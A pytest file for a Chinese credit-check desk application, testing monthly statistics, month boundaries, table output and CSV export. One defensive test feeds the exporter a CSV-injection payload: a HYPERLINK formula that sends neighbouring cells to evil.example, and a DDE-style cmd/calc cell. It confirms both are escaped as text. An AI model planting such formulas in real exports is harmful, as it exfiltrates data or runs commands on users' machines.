"""Monthly statistics against a hand-counted month (November 2026, China time)."""
from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from casefile_fixtures import (
    BLACK_HIT,
    DESK,
    FOCUS_HIT,
    M_GREEN,
    M_LIMIT,
    M_REVIEW,
    PERSON_CODE,
    RED_HIT,
    approve,
    black_result,
    result,
)

from desktop.casefile import stats
from desktop.casefile.store import CaseFile, Decision, Desk
from desktop.check.model import CodeKind, Item, Source, Status
from desktop.site.messages import UserError

OTHER_ITEM = Item(item_code="X-2", name="建设工程施工许可", department="区住房和建设局")
DESK_B = Desk(operator="op-0200", hall=DESK.hall, window="7")


@pytest.fixture
def month(tmp_path):
    """The month, by hand:

    A  clear, platform, approved                                   op-0117
    B  black hit, rejected with M-01, later corrected to deferred  op-0117
    C  person, black + red, offline, rejected with M-01 and M-03   op-0200
    D  unverified (offline), deferred, later approved with a note  op-0200
    E  focus hit, other item, approved, optional M-02 not applied  op-0117
    F  clear, 1 Nov 00:30 China time (31 Oct UTC), approved        op-0117
    out of the month: 31 Oct 23:59:59 and 1 Dec 00:00 China time.
    """
    cf = CaseFile(tmp_path / "cases.sqlite")
    cf.record_check(result(checked_at="2026-11-03T02:15:00Z"), approve(case_no="A"), DESK)
    b = cf.record_check(black_result(checked_at="2026-11-04T03:00:00Z"),
                        approve(case_no="B", outcome="rejected", measures_applied=("M-01",)), DESK)
    cf.record_check(result(code=PERSON_CODE, kind=CodeKind.PERSON, status=Status.HIT,
                           source=Source.OFFLINE, hits=(BLACK_HIT, RED_HIT),
                           measures=(M_LIMIT, M_GREEN), checked_at="2026-11-10T01:00:00Z"),
                    approve(case_no="C", outcome="rejected", measures_applied=("M-01", "M-03")),
                    DESK_B)
    d = cf.record_check(result(status=Status.UNVERIFIED, source=Source.OFFLINE,
                               checked_at="2026-11-12T06:00:00Z"),
                        approve(case_no="D", outcome="deferred"), DESK_B)
    cf.record_decision(d.record_id, Decision(case_no="D", outcome="approved",
                                             note="平台恢复后补查无记录"), DESK_B)
    cf.record_check(replace(result(status=Status.HIT, hits=(FOCUS_HIT,), measures=(M_REVIEW,),
                                   checked_at="2026-11-20T08:00:00Z"), item=OTHER_ITEM),
                    approve(case_no="E"), DESK)
    cf.record_check(result(checked_at="2026-10-31T16:30:00Z"), approve(case_no="F"), DESK)
    cf.record_check(result(checked_at="2026-10-31T15:59:59Z"), approve(case_no="Oct"), DESK)
    cf.record_check(result(checked_at="2026-11-30T16:00:00Z"), approve(case_no="Dec"), DESK)
    cf.record_decision(b.record_id, Decision(case_no="B", outcome="deferred",
                                             measures_applied=("M-01",)), DESK)
    yield cf
    cf.close()


def test_whole_month(month):
    s = stats.monthly(month, "2026-11")
    assert (s.checks, s.unverified, s.offline, s.hits) == (6, 1, 2, 3)
    assert s.offline_share == pytest.approx(2 / 6)
    assert s.hits_by_severity == {"black": 2, "focus": 1, "red": 1}
    assert s.measures_applied == {"M-01": ("限制其取得食品经营许可", 2), "M-03": ("绿色通道，容缺受理", 1)}
    assert s.outcomes == {"approved": 4, "deferred": 1, "rejected": 1}
    assert s.decisions == 2


def test_by_operator_and_by_item(month):
    s = stats.monthly(month, "2026-11", operator="op-0200")
    assert (s.checks, s.unverified, s.offline, s.hits, s.decisions) == (2, 1, 2, 1, 1)
    assert s.hits_by_severity == {"black": 1, "red": 1}
    assert s.outcomes == {"rejected": 1, "approved": 1}
    s = stats.monthly(month, "2026-11", item_code="X-2")
    assert (s.checks, s.hits, s.hits_by_severity, s.measures_applied) == (1, 1, {"focus": 1}, {})


def test_neighbouring_months_and_an_empty_month(month):
    assert stats.monthly(month, "2026-10").checks == 1
    assert stats.monthly(month, "2026-12").checks == 1
    empty = stats.monthly(month, "2027-01")
    assert (empty.checks, empty.offline_share, empty.outcomes) == (0, 0.0, {})


def test_bad_month_is_refused(month):
    with pytest.raises(UserError, match="YYYY-MM"):
        stats.monthly(month, "2026/11")


def test_table_and_csv(month, tmp_path):
    s = stats.monthly(month, "2026-11")
    table = stats.format_table(s)
    assert table.splitlines()[0] == "信用核查月度统计 2026-11（事项：全部；操作员：全部）"
    for line in ("核查次数", "离线占比", "失信惩戒对象", "M-01 限制其取得食品经营许可", "准予办理"):
        assert line in table
    assert "33.3%" in table
    path = stats.write_csv(s, tmp_path / "month.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as f:   # zh_CN unless told otherwise
        rows = {(r["栏目"], r["键"]): r for r in csv.DictReader(f)}
    assert rows[("核查", "total")]["数值"] == "6"
    assert rows[("名单命中（按类别）", "black")]["名称"] == "失信惩戒对象"
    assert rows[("名单命中（按类别）", "black")]["数值"] == "2"
    assert rows[("已执行的措施", "M-03")]["数值"] == "1"
    assert rows[("办理结果", "referred")]["数值"] == "0"
    assert rows[("核查", "offline_share")]["数值"] == "0.3333"
    assert {r["月份"] for r in rows.values()} == {"2026-11"}
    # The window passes its translation: every header, section and label, the keys untouched.
    english = {"栏目": "Section", "键": "Key", "数值": "Value", "核查": "Checks"}
    path = stats.write_csv(s, tmp_path / "en.csv", lambda _context, text: english.get(text, text))
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = {(r["Section"], r["Key"]): r for r in csv.DictReader(f)}
    assert rows[("Checks", "total")]["Value"] == "6"


@pytest.mark.parametrize("far", ["9999-12", "0001-01"])
def test_a_far_month_is_refused_as_input_not_called_damage(month, far):
    """9999-12 ended in the year 10000, and the command line called an intact file damaged and
    told IT to restore a backup (break attempt 18)."""
    with pytest.raises(UserError, match="超出可查询的范围"):
        stats.monthly(month, far)


def test_a_csv_cell_a_spreadsheet_would_evaluate_is_written_as_text(month, tmp_path):
    """Measure ids and contents come from the platform: one starting with = or @ was a live
    formula (a link carrying the neighbouring cells away) in the hall's spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"措施依据")'
    s = replace(stats.monthly(month, "2026-11"),
                measures_applied={"@SUM(1+1)*cmd|' /C calc'!A0": (formula, 1)})
    path = stats.write_csv(s, tmp_path / "month.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    [row] = [r for r in rows if "HYPERLINK" in r[5]]
    assert row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row[5] == "'" + formula
    assert row[6] == "1"
    assert not [c for r in rows for c in r if c and c[0] in "=+-@"]


def test_a_csv_to_a_folder_or_a_full_device_says_what_failed(month, tmp_path, capsys):
    """The export share given instead of a file in it, or a full disk: the path named and what to
    do, never an unexpected error (break attempt 21); the window shows the same message."""
    s = stats.monthly(month, "2026-11")
    with pytest.raises(UserError) as folder:
        stats.write_csv(s, tmp_path)
    assert str(tmp_path) in str(folder.value.message) and "是文件夹" in str(folder.value.message)
    assert folder.value.exit_code == 2
    full = Path("/dev/full")
    if full.exists():
        with pytest.raises(UserError) as disk:
            stats.write_csv(s, full)
        text = str(disk.value.message)
        assert "/dev/full" in text and "磁盘空间" in text and "Errno" not in text
        assert disk.value.exit_code == 7
